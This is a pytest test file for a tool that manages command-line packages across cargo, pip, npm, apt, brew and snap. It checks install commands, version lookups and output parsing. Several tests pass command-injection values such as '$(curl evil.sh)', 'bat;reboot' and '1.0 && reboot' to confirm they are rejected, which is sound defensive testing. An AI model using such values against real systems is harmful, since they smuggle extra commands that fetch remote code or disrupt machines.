"""Tests for the package-manager adapters and registry."""

import json
from unittest.mock import MagicMock, patch

import httpx
import pytest

from toolshed.errors import InvalidName, InvalidVersion
from toolshed.models import Source
from toolshed.sources import registry
from toolshed.sources.apt import AptSource, is_cli_package, section_to_category
from toolshed.sources.base import PackageSource
from toolshed.sources.brew import BrewSource
from toolshed.sources.cargo import CRATES_API, CargoSource, parse_install_list
from toolshed.sources.manual import description_from_help, fetch_man_description
from toolshed.sources.npm import NpmSource
from toolshed.sources.pip import PYPI_API, PipSource
from toolshed.sources.snap import SnapSource, parse_snap_info, parse_snap_list

CARGO_LIST = """\
bat v0.24.0:
    bat
fd-find v9.0.0:
    fd
ripgrep v14.1.0:
    rg
"""


def completed(stdout="", returncode=0, stderr=""):
    return MagicMock(returncode=returncode, stdout=stdout, stderr=stderr)


class TestRegistry:
    def setup_method(self):
        registry.reset()

    def test_builtins_registered(self):
        assert set(registry.discover()) >= {"cargo", "pip", "npm", "apt", "brew", "snap"}

    def test_adapters_satisfy_protocol(self):
        for adapter in registry.discover().values():
            assert isinstance(adapter, PackageSource)

    def test_get_by_source(self):
        assert registry.get(Source.CARGO).meta.name == "cargo"
        assert registry.get("manual") is None
        assert registry.get(Source.UNKNOWN) is None

    def test_available_checks_path(self):
        with patch("shutil.which", side_effect=lambda p: "/usr/bin/cargo" if p == "cargo" else None):
            assert list(registry.available()) == ["cargo"]


class TestInstallCommands:
    @pytest.mark.parametrize("adapter, version, argv", [
        (CargoSource(), None, ["cargo", "install", "bat"]),
        (CargoSource(), "0.24.0", ["cargo", "install", "bat", "--version", "0.24.0"]),
        (NpmSource(), "1.2.3", ["npm", "install", "-g", "bat@1.2.3"]),
        (AptSource(), None, ["sudo", "apt", "install", "-y", "bat"]),
        (AptSource(), "0.24.0-1", ["sudo", "apt", "install", "-y", "bat=0.24.0-1"]),
        (BrewSource(), None, ["brew", "install", "bat"]),
        (SnapSource(), "edge", ["sudo", "snap", "install", "bat", "--channel=edge"]),
    ])
    def test_argv(self, adapter, version, argv):
        assert adapter.build_install_cmd("bat", version).argv == argv

    def test_pip_pins_with_double_equals(self):
        with patch("shutil.which", return_value="/usr/bin/pip3"):
            cmd = PipSource().build_install_cmd("httpie", "3.2.2")
        assert cmd.argv == ["pip3", "install", "httpie==3.2.2"]

    @pytest.mark.parametrize("adapter", [CargoSource(), NpmSource(), AptSource(),
                                         BrewSource(), SnapSource()])
    def test_uninstall_validates(self, adapter):
        assert adapter.build_uninstall_cmd("bat").argv[-1] == "bat"
        with pytest.raises(InvalidName):
            adapter.build_uninstall_cmd("bat;reboot")

    def test_injection_never_reaches_argv(self):
        with pytest.raises(InvalidName):
            CargoSource().build_install_cmd("$(curl evil.sh)")
        with pytest.raises(InvalidVersion):
            CargoSource().build_install_cmd("bat", "1.0 && reboot")


class TestCargo:
    def test_parse_install_list(self):
        crates = parse_install_list(CARGO_LIST)
        assert crates["ripgrep"] == ("14.1.0", ["rg"])
        assert crates["bat"] == ("0.24.0", ["bat"])

    def test_detect(self):
        with patch("subprocess.run", return_value=completed(CARGO_LIST)):
            tools = CargoSource().detect_installed_tools()
        by_name = {t.name: t for t in tools}
        assert set(by_name) == {"bat", "fd-find", "ripgrep"}
        assert by_name["ripgrep"].binary_name == "rg"
        assert by_name["bat"].binary_name is None
        assert all(t.source == Source.CARGO and t.is_installed for t in tools)

    def test_detect_without_cargo(self):
        with patch("subprocess.run", side_effect=FileNotFoundError):
            assert CargoSource().detect_installed_tools() == []

    def test_registry_versions(self, http_routes):
        http_routes[f"{CRATES_API}/bat"] = {
            "crate": {"max_stable_version": "0.24.0", "description": " A cat(1) clone "},
            "versions": [{"num": "0.24.0"}, {"num": "0.23.0"}, {"num": "0.25.0-rc1"},
                         {"num": "0.22.0", "yanked": True}],
        }
        cargo = CargoSource()
        assert cargo.query_latest_version("bat") == "0.24.0"
        assert cargo.query_available_versions("bat", "0.18.0") == ["0.23.0", "0.24.0"]
        assert cargo.fetch_description("bat") == "A cat(1) clone"

    def test_unknown_crate(self, http_routes):
        assert CargoSource().query_latest_version("no-such-crate") is None

    def test_server_error_is_absent(self, http_routes):
        http_routes[f"{CRATES_API}/bat"] = httpx.Response(500)
        assert CargoSource().fetch_description("bat") is None

    def test_check_updates(self, http_routes):
        http_routes[f"{CRATES_API}/bat"] = {"crate": {"max_stable_version": "0.25.0"}}
        http_routes[f"{CRATES_API}/fd-find"] = {"crate": {"max_stable_version": "9.0.0"}}
        with patch("subprocess.run", return_value=completed(CARGO_LIST)):
            updates = CargoSource().check_updates()
        assert [(u.name, u.current, u.latest) for u in updates] == [("bat", "0.24.0", "0.25.0")]


class TestPip:
    def test_detect_freeze(self):
        out = "httpie==3.2.2\nblack==24.1.0\n-e git+https://x#egg=y\n"
        with patch("subprocess.run", return_value=completed(out)):
            tools = PipSource().detect_installed_tools()
        assert [t.name for t in tools] == ["httpie", "black"]

    def test_installed_version(self):
        out = "Name: httpie\nVersion: 3.2.2\nSummary: HTTP client\n"
        with patch("subprocess.run", return_value=completed(out)):
            assert PipSource().query_installed_version("httpie") == "3.2.2"

    def test_pypi(self, http_routes):
        http_routes[f"{PYPI_API}/httpie/json"] = {
            "info": {"version": "3.2.3", "summary": "HTTPie: modern HTTP client"},
            "releases": {"3.2.2": [], "3.2.3": [], "4.0.0b1": []},
        }
        pip = PipSource()
        assert pip.query_latest_version("httpie") == "3.2.3"
        assert pip.query_available_versions("httpie", "3.2.2") == ["3.2.3"]
        assert pip.fetch_description("httpie") == "HTTPie: modern HTTP client"

    def test_unknown_summary(self, http_routes):
        http_routes[f"{PYPI_API}/thing/json"] = {"info": {"summary": "UNKNOWN"}}
        assert PipSource().fetch_description("thing") is None

    def test_outdated(self):
        out = json.dumps([{"name": "black", "version": "24.1.0", "latest_version": "24.4.2"}])
        with patch("subprocess.run", return_value=completed(out)):
            updates = PipSource().check_updates()
        assert [(u.name, u.latest) for u in updates] == [("black", "24.4.2")]


class TestNpm:
    def test_detect_skips_bundled_and_names_scoped_binary(self):
        out = json.dumps({"dependencies": {
            "npm": {"version": "10.0.0"}, "prettier": {"version": "3.0.0"},
            "@angular/cli": {"version": "17.0.0"},
        }})
        with patch("subprocess.run", return_value=completed(out)):
            tools = {t.name: t for t in NpmSource().detect_installed_tools()}
        assert set(tools) == {"prettier", "@angular/cli"}
        assert tools["@angular/cli"].binary_name == "cli"

    def test_installed_version_despite_nonzero_exit(self):
        out = json.dumps({"dependencies": {"prettier": {"version": "3.0.0"}}})
        with patch("subprocess.run", return_value=completed(out, returncode=1)):
            assert NpmSource().query_installed_version("prettier") == "3.0.0"

    def test_versions_single_string(self):
        with patch("subprocess.run", return_value=completed('"1.0.0"')):
            assert NpmSource().list_versions("tiny") == ["1.0.0"]

    def test_outdated(self):
        out = json.dumps({"eslint": {"current": "8.0.0", "latest": "9.1.0"}})
        with patch("subprocess.run", return_value=completed(out, returncode=1)):
            updates = NpmSource().check_updates()
        assert [(u.name, u.current, u.latest) for u in updates] == [("eslint", "8.0.0", "9.1.0")]


class TestApt:
    def test_section_mapping(self):
        assert section_to_category("universe/utils") == "system"
        assert section_to_category("vcs") == "git"
        assert section_to_category("misc") == "cli"

    def test_cli_filter(self):
        assert is_cli_package("ripgrep", "universe/utils")
        assert not is_cli_package("libssl3", "libs")
        assert not is_cli_package("gimp", "graphics")
        assert not is_cli_package("foo-gtk", "utils")

    def test_detect_requires_binary_on_path(self):
        out = "ripgrep\tutils\tfast grep\nlibfoo1\tlibs\tlib\nnotonpath\tutils\tx\n"
        which = {"ripgrep": "/usr/bin/ripgrep"}
        with patch("subprocess.run", return_value=completed(out)), \
                patch("shutil.which", side_effect=which.get):
            tools = AptSource().detect_installed_tools()
        assert [t.name for t in tools] == ["ripgrep"]
        assert tools[0].description == "fast grep"
        assert tools[0].category == "system"

    def test_candidate_version(self):
        out = "bat:\n  Installed: 0.19.0-1\n  Candidate: 0.19.0-2\n"
        with patch("subprocess.run", return_value=completed(out)):
            assert AptSource().list_versions("bat") == ["0.19.0-2"]

    def test_upgradable(self):
        out = ("Listing...\n"
               "bat/jammy-updates 0.19.0-2 amd64 [upgradable from: 0.19.0-1]\n")
        with patch("subprocess.run", return_value=completed(out)):
            updates = AptSource().check_updates()
        assert [(u.name, u.current, u.latest) for u in updates] == [
            ("bat", "0.19.0-1", "0.19.0-2")]


class TestBrewAndSnap:
    def test_brew_installed_version(self):
        with patch("subprocess.run", return_value=completed("jq 1.6 1.7.1\n")):
            assert BrewSource().query_installed_version("jq") == "1.7.1"

    def test_brew_stable_version(self):
        out = json.dumps({"formulae": [{"versions": {"stable": "1.7.1"}}]})
        with patch("subprocess.run", return_value=completed(out)):
            assert BrewSource().query_latest_version("jq") == "1.7.1"

    def test_snap_list_filters_platform(self):
        out = ("Name    Version  Rev  Tracking  Publisher  Notes\n"
               "core22  2024     1    latest/stable canonical base\n"
               "btop    1.3.0    700  latest/stable kz6fittycent -\n")
        with patch("subprocess.run", return_value=completed(out)):
            assert [t.name for t in SnapSource().detect_installed_tools()] == ["btop"]
        assert parse_snap_list(out)["btop"] == "1.3.0"

    def test_snap_info(self):
        text = ("name: btop\nsummary: Resource monitor\nchannels:\n"
                "  latest/stable:    1.3.2 2024-03-01 (730) 1MB -\n"
                "  latest/edge:      ^\n")
        assert parse_snap_info(text) == {"summary": "Resource monitor", "stable": "1.3.2"}


class TestManualDescriptions:
    def test_man_whatis(self):
        with patch("subprocess.run", return_value=completed("jq (1) - Command-line JSON processor\n")):
            assert fetch_man_description("jq") == "Command-line JSON processor"

    def test_help_heuristic(self):
        text = ("Usage: sd [OPTIONS] <FIND> <REPLACE>\n"
                "\n"
                "Intuitive find & replace CLI. Fast and simple.\n")
        assert description_from_help(text) == "Intuitive find & replace CLI"

    def test_help_without_prose(self):
        assert description_from_help("Usage: x [-h]\n  -h  help\n") is None
